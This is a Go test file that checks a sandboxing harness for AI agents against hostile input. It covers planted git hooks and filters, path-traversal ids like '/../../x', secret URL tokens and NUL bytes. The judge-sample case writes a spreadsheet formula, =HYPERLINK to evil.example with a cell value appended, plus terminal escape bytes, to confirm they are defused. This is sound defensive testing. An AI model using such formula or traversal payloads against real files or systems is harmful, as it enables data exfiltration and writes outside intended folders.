package hostile_test

// Issue 28 items 1, 3, 7 and 9: the agent's git never runs, no id or name becomes a
// path outside its root, and the smaller ones (the judge's form, duplicate labels, a NUL
// in the task, the work root, secrets in the URLs chaos lists). Each is run through the
// chaos binary with the world's canary folder and process scan checked after.

import (
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/crashwall/chaos/tests/testkit"
)

// TestHostileGitPlants: an agent plants every source of commands git reads (fsmonitor,
// textconv, a filter, hooks, an external diff), points its .git at another repository
// (a gitdir: file, a link) or breaks it; chaos run runs nothing of it, changes nothing
// outside, removes every sandbox, and each trial has its diff or says why not.
func TestHostileGitPlants(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	other := filepath.Join(w.tmp, "other-repo")
	testkit.GitRepo(t, other)
	index, err := os.ReadFile(filepath.Join(other, ".git", "index"))
	if err != nil {
		t.Fatal(err)
	}
	pwned := w.pwned()
	path := testkit.GitPlantSpec(t, w.specDir, pwned, other, "")
	out := filepath.Join(w.tmp, "run")
	r := testkit.Run(t, chaosBin, w.env, 10*time.Minute, "run", path, "--only", "clean", "--out", out)
	// The agent never meets the wall: no score (exit 4). What is checked is what git did.
	if r.Code != 4 {
		t.Errorf("exit %d\nstdout:\n%s\nstderr:\n%s", r.Code, r.Stdout, r.Stderr)
	}
	if !strings.Contains(r.Stdout, "trials") {
		t.Errorf("the summary does not read:\n%s", r.Stdout)
	}
	testkit.CheckGitPlants(t, out, pwned, other, index)
	if b, err := os.ReadFile(filepath.Join(out, "report.html")); err != nil || !strings.Contains(string(b), "plant=gitdir") {
		t.Errorf("report.html does not read: %v", err)
	}
	entries, _ := os.ReadDir(workRoot(w.tmp))
	for _, e := range entries {
		if e.Name() != filepath.Base(w.other) {
			t.Errorf("the work root still holds %s: a sandbox was kept", e.Name())
		}
	}
	w.check(t)
}

// TestHostilePathsAndForms: ids and names that would become paths outside their root,
// a spreadsheet form the agent's words would run in, a form labelled twice, a task no
// program can be given, a work root another user holds, and secrets in a server's URL:
// each refused (exit 1, a sentence) or made harmless, and the world left as it was.
func TestHostilePathsAndForms(t *testing.T) {
	t.Parallel()
	skillProject := func(name string) func(t *testing.T, w *world) []string {
		return func(t *testing.T, w *world) []string {
			project := filepath.Join(w.specDir, "project")
			write(t, filepath.Join(project, ".claude", "skills", "evil", "SKILL.md"), "---\nname: "+name+"\ndescription: d\n---\nbody\n")
			write(t, filepath.Join(project, ".mcp.json"), `{"mcpServers": {"fs": {"command": "sleep", "args": ["`+w.marker+`"]}}}`)
			return []string{"skill", "test", name, "--project", project, "--allow-real-calls", "--prompt", "p", "--yes"}
		}
	}
	nulSpec := func(task string) func(t *testing.T, w *world) []string {
		return func(t *testing.T, w *world) []string {
			path := filepath.Join(w.specDir, "nul.yaml")
			write(t, path, "name: nul\n"+task+"tools: [{name: note, effect: write}]\nagent: {command: \"true\"}\n")
			return []string{"run", path, "--dry-run"}
		}
	}
	workRootSpec := func(t *testing.T, w *world) string {
		path := filepath.Join(w.specDir, "plain.yaml")
		write(t, path, "name: plain\ntask: t\ntools: [{name: note, effect: write}]\nagent: {command: \"sleep "+w.marker+"\", timeout: 30s}\n")
		return path
	}
	tests := []struct {
		name  string
		args  func(t *testing.T, w *world) []string
		code  int
		want  []string
		after func(t *testing.T, w *world)
	}{
		// item 7: a run id is one name; the log it names stays in the data directory
		{name: "resume /../../x", code: 1, want: []string{`"/../../x" is not a run id: it holds a /`},
			args: func(t *testing.T, w *world) []string { return []string{"resume", "/../../x"} },
			after: func(t *testing.T, w *world) {
				filepath.WalkDir(w.tmp, func(p string, d fs.DirEntry, err error) error {
					if err == nil && d.Name() == "x.log" {
						t.Errorf("chaos resume wrote %s", p)
					}
					return nil
				})
			}},
		{name: "resume /etc", code: 1, want: []string{`"/etc" is not a run id`},
			args: func(t *testing.T, w *world) []string { return []string{"resume", "/etc"} }},
		{name: "resume ..", code: 1, want: []string{`".." is not a run id`},
			args: func(t *testing.T, w *world) []string { return []string{"resume", ".."} }},
		// item 3: a skill's name is one folder name, refused before anything is written
		{name: "skill test, name ../../x", code: 1, args: skillProject("../../outside/x"),
			want: []string{`SKILL.md:2: the skill's name "../../outside/x" holds a /`}, after: noSkillTestFolder},
		{name: "skill test, name ..", code: 1, args: skillProject(".."),
			want: []string{`SKILL.md:2: the skill's name ".." is .., not a name`}, after: noSkillTestFolder},
		{name: "skill test --out, name a/../../x", code: 1, want: []string{`the skill's name "a/../../x" holds a /`},
			args: func(t *testing.T, w *world) []string {
				return append(skillProject("a/../../x")(t, w), "--out", filepath.Join(w.specDir, "st"))
			},
			after: noSkillTestFolder},
		// item 9: secrets in a server's URL are shown as references
		{name: "skill list, ?token= and ?api_key=", code: 0, want: []string{"token=${FS_QUERY_TOKEN}", "api_key=${FS_QUERY_API_KEY}", "team=7"},
			args: func(t *testing.T, w *world) []string {
				project := filepath.Join(w.specDir, "project")
				write(t, filepath.Join(project, ".mcp.json"), `{"mcpServers": {"fs": {"type": "http", "url": "https://x.example/mcp?team=7&token=tok-SECRET1&api_key=key-SECRET2"}}}`)
				return []string{"skill", "list", "--project", project}
			}},
		// item 9: a NUL in the task is refused at load, with its line
		{name: "NUL in task", code: 1, args: nulSpec("task: \"refund\\0it\"\n"),
			want: []string{"nul.yaml:2: task holds a NUL byte (at character 7)"}},
		{name: "NUL in tasks[].prompt", code: 1, args: nulSpec("tasks:\n  - id: a\n    prompt: \"x\\0\"\n"),
			want: []string{"nul.yaml:4: task \"a\": prompt holds a NUL byte"}},
		// item 9: the work root is this user's
		{name: "work root owned by another user", code: 1, want: []string{"belongs to user 65534, not to this user"},
			args: func(t *testing.T, w *world) []string {
				if os.Getuid() != 0 {
					t.Skip("making a folder another user owns takes root")
				}
				os.Chown(workRoot(w.tmp), 65534, 65534)
				return []string{"run", workRootSpec(t, w)}
			}},
		{name: "work root a link", code: 1, want: []string{"is a symbolic link"},
			args: func(t *testing.T, w *world) []string {
				root := workRoot(w.tmp)
				os.Rename(root, root+".real")
				os.Symlink(root+".real", root)
				w.other = filepath.Join(root+".real", filepath.Base(w.other))
				return []string{"run", workRootSpec(t, w)}
			}},
		// item 9: the judge's form is text in a spreadsheet; a form labelled twice is refused
		{name: "judge sample, formula and ESC", code: 0, want: []string{"form: "},
			args: func(t *testing.T, w *world) []string {
				runDir := fakeRun(t, w, "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")\x1b]0;pwned\x07")
				return []string{"judge", "sample", runDir, "--out", filepath.Join(w.specDir, "form.csv")}
			},
			after: func(t *testing.T, w *world) {
				b, _ := os.ReadFile(filepath.Join(w.specDir, "form.csv"))
				if !strings.Contains(string(b), `'=HYPERLINK(`) || strings.ContainsAny(string(b), "\x1b\x07") {
					t.Errorf("the form:\n%q\nwant the formula behind a ' and no control byte", b)
				}
			}},
		{name: "judge agree, an id twice", code: 1, want: []string{`id "m001" is labelled again (first at `, "keep one row per id"},
			args: func(t *testing.T, w *world) []string {
				runDir := fakeRun(t, w, "Done: refunded.")
				form := filepath.Join(w.specDir, "form.csv")
				if r := testkit.Run(t, chaosBin, w.env, time.Minute, "judge", "sample", runDir, "--out", form); r.Code != 0 {
					t.Fatalf("judge sample: exit %d\n%s", r.Code, r.Stderr)
				}
				write(t, form, "id,label,closing message\nm001,claimed,Done\nm001,not claimed,Done\n")
				return []string{"judge", "agree", form, "--agent", "generic", "--language", "en"}
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			args := tt.args(t, w)
			r := testkit.Run(t, chaosBin, w.env, 2*time.Minute, args...)
			if r.Code != tt.code {
				t.Errorf("exit %d, want %d\nstdout:\n%s\nstderr:\n%s", r.Code, tt.code, r.Stdout, r.Stderr)
			}
			for _, want := range tt.want {
				if !strings.Contains(r.Stdout+r.Stderr, want) {
					t.Errorf("stdout:\n%s\nstderr:\n%s\nwant it to contain %q", r.Stdout, r.Stderr, want)
				}
			}
			for _, secret := range []string{"SECRET1", "SECRET2"} {
				if strings.Contains(r.Stdout+r.Stderr, secret) {
					t.Errorf("a secret query value was printed: %s", secret)
				}
			}
			if tt.after != nil {
				tt.after(t, w)
			}
			w.check(t)
		})
	}
}

// noSkillTestFolder fails the test when chaos skill test wrote its folder anywhere.
func noSkillTestFolder(t *testing.T, w *world) {
	t.Helper()
	filepath.WalkDir(w.tmp, func(p string, d fs.DirEntry, err error) error {
		if err == nil && (d.Name() == "chaos-skill-tests" || d.Name() == "st" || d.Name() == "x" || strings.HasSuffix(p, "clean.record.jsonl")) {
			t.Errorf("chaos skill test wrote %s", p)
		}
		return nil
	})
}

// fakeRun is a run folder of one trial whose closing message is closing.
func fakeRun(t *testing.T, w *world, closing string) string {
	t.Helper()
	dir := filepath.Join(w.specDir, "run")
	write(t, filepath.Join(dir, "manifest.json"), `{"run_id": "r1"}`)
	b, _ := json.Marshal([]map[string]string{{"id": "main/clean/1", "closing": closing, "claim": "claimed_success"}})
	write(t, filepath.Join(dir, "verdicts.json"), string(b))
	return dir
}

func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}
